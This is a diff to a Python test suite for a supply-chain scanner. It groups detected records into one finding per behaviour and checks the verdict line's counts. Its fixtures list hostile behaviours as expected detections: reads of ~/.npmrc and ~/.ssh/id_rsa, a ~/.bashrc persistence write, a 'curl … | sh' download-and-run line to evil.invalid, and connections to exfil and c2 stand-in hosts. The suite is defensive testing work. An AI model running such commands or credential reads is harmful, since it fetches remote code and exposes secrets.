@@ -39,29 +39,45 @@ DEVIATION_KEYS = {"id", "run_id", "package", "kind", "severity", "value", "actor
 
 # banner 2.x: each release adds one behaviour to the benign banner. `findings`
 # must all be there (kind, value, severity); `only`: nothing else may be.
+# `behaviours`: the findings (value, labels) they group into, one per
+# behaviour: a deviation and the rule hits on its events are one (with
+# `only`, exactly these).
 VARIANTS = {
     "npmrc": {"version": "2.0.0", "only": True,
               "findings": [("fs_cred_read", "~/.npmrc", "critical"),
-                           ("rule:cred-read-by-script", "~/.npmrc", "critical")]},
+                           ("rule:cred-read-by-script", "~/.npmrc", "critical")],
+              "behaviours": [("~/.npmrc", {"fs_cred_read", "rule:cred-read-by-script"})]},
     "ssh_key": {"version": "2.1.0", "only": True,
                 "findings": [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
-                             ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")]},
+                             ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")],
+                "behaviours": [("~/.ssh/id_rsa", {"fs_cred_read", "rule:cred-read-by-script"})]},
     "bashrc": {"version": "2.2.0", "only": True,
                "findings": [("fs_new_path_write", "~/.bashrc", "medium"),
-                            ("rule:persistence-shell-startup", "~/.bashrc", "critical")]},
+                            ("rule:persistence-shell-startup", "~/.bashrc", "critical")],
+               "behaviours": [("~/.bashrc", {"fs_new_path_write", "rule:persistence-shell-startup"})]},
     # curl itself may be missing (docker image) or fail: the sh -c line is what counts
     "curl_pipe_sh": {"version": "2.3.0", "only": False,
                      "findings": [("proc_new_exec", "/usr/bin/sh -c curl -fsSL http://evil.invalid/x | sh",
-                                   "medium")]},
+                                   "medium")],
+                     "behaviours": [("sh -c curl -fsSL http://evil.invalid/x | sh",
+                                     {"proc_new_exec", "rule:download-and-run"})]},
     # the lookup also shows the resolver plumbing (its config files, its address)
     "dns_connect": {"version": "2.4.0", "only": False,
                     "findings": [("net_new_dns", "exfil.evil.invalid", "medium"),
-                                 ("net_new_destination", "198.51.100.23:8443/tcp", "high")]},
+                                 ("net_new_destination", "198.51.100.23:8443/tcp", "high")],
+                    "behaviours": [("exfil.evil.invalid", {"net_new_dns", "rule:script-network-not-registry"}),
+                                   ("198.51.100.23:8443/tcp",
+                                    {"net_new_destination", "rule:script-network-not-registry"})]},
+    # the server name and the address it went to: the handshake does not
+    # say the address here, so two findings
     "tls_sni": {"version": "2.5.0", "only": True,
                 "findings": [("net_new_https_host", "c2.evil.invalid", "high"),
                              ("net_new_destination", "203.0.113.10:443/tcp", "high"),
                              ("rule:script-network-not-registry", "c2.evil.invalid", "high"),
-                             ("rule:script-network-not-registry", "203.0.113.10:443/tcp", "high")]},
+                             ("rule:script-network-not-registry", "203.0.113.10:443/tcp", "high")],
+                "behaviours": [("c2.evil.invalid", {"net_new_https_host", "rule:script-network-not-registry"}),
+                               ("203.0.113.10:443/tcp",
+                                {"net_new_destination", "rule:script-network-not-registry"})]},
 }
 
 SEVERITIES = ["info", "low", "medium", "high", "critical"]
@@ -222,9 +238,31 @@ class ScanBase:
                 self.assertNotEqual(d["kind"], "fs_cred_read", "a variant that steals nothing: %s" % d)
         worst = max(SEVERITIES.index(d["severity"]) for d in devs)
         self.assertEqual(SEVERITIES[worst], out["run"]["max_severity"])
+        self.assert_behaviours(out, v)
         self.assertEqual(p.returncode, 3 if worst >= SEVERITIES.index(fail_on) else 0,
                          "exit code vs --fail-on %s, stderr: %s" % (fail_on, p.stderr))
         return out, got
+
+    def assert_behaviours(self, out, v):
+        """The run's records grouped into one finding per behaviour: each
+        expected behaviour is one finding showing the value and carrying
+        (at least) the labels."""
+        findings = out["findings"]
+        for value, labels in v["behaviours"]:
+            match = [f for f in findings if value in f["values"] and labels <= set(f["labels"])]
+            self.assertEqual(len(match), 1, "no finding %s %s in %s" %
+                             (value, labels, [(f["values"], f["labels"]) for f in findings]))
+        if v["only"]:
+            # a connection may join the server name it went to (when the
+            # handshake's event carries the address): never more findings
+            self.assertLessEqual(len(findings), len(v["behaviours"]))
+        self.assertEqual(out["counts"]["findings"], len(findings))
+        self.assertEqual(out["counts"]["deviations"] + out["counts"]["rule_hits"], len(out["deviations"]))
+        self.assertEqual(out["counts"]["rule_hits"], sum(d["kind"].startswith("rule:") for d in out["deviations"]))
+        ids = sorted(i for f in findings for i in f["deviation_ids"])
+        self.assertEqual(ids, sorted(d["id"] for d in out["deviations"]), "each record in exactly one finding")
+        worst = max(SEVERITIES.index(f["severity"]) for f in findings)
+        self.assertEqual(SEVERITIES[worst], out["run"]["max_severity"])
 
     # ---- the baseline -------------------------------------------------------
 
@@ -255,8 +293,10 @@ class ScanBase:
         self.assertEqual(p.returncode, 3, p.stderr)
         self.assertIn("banner@2.1.0", p.stdout)
         self.assertIn("~/.ssh/id_rsa", p.stdout)
-        self.assertIn("1 rule finding:", p.stdout)
-        self.assertIn("verdict: 2 findings, highest critical (fails)", p.stdout)
+        # one behaviour: the deviation and the rule hit on the same read
+        self.assertIn("1 finding (1 deviation from the baseline, 1 rule hit):", p.stdout)
+        self.assertIn("verdict: 1 finding (1 deviation, 1 rule hit), highest critical (fails)", p.stdout)
+        self.assertIn("rule:cred-read-by-script + fs_cred_read", p.stdout)
         run_id = p.stdout.split()[1].rstrip(":")
         devs = self.jfangs("deviation", "list", "--run", run_id)
         self.assertEqual(sorted((d["kind"], d["value"], d["severity"]) for d in devs),
@@ -280,6 +320,22 @@ class ScanBase:
 
     def test_tls_to_new_server_name(self):
         self.check_variant("tls_sni")
+
+    def test_verdict_counts_behaviours(self):
+        """The verdict line counts findings (behaviours), not records: the
+        four records of 2.5.0 (a new server name and a new address, each a
+        deviation and a rule hit) are two behaviours, or one when the
+        handshake's event names the address."""
+        v = VARIANTS["tls_sni"]
+        p = self.scan("banner@" + v["version"], json_out=False)
+        self.assertEqual(p.returncode, 3, p.stderr)
+        m = re.search(r"^verdict: (\d+) findings? \((\d+) deviations?, (\d+) rule hits?\), highest high \(fails\)",
+                      p.stdout, re.M)
+        self.assertTrue(m, p.stdout)
+        n, devs, hits = map(int, m.groups())
+        self.assertEqual((devs, hits), (2, 2))
+        self.assertIn(n, (1, len(v["behaviours"])))
+        self.assertEqual(sum(1 for line in p.stdout.splitlines() if line.startswith("  [")), n, p.stdout)
 
     # ---- credentials by identity, attribution by ancestry ------------------------
 
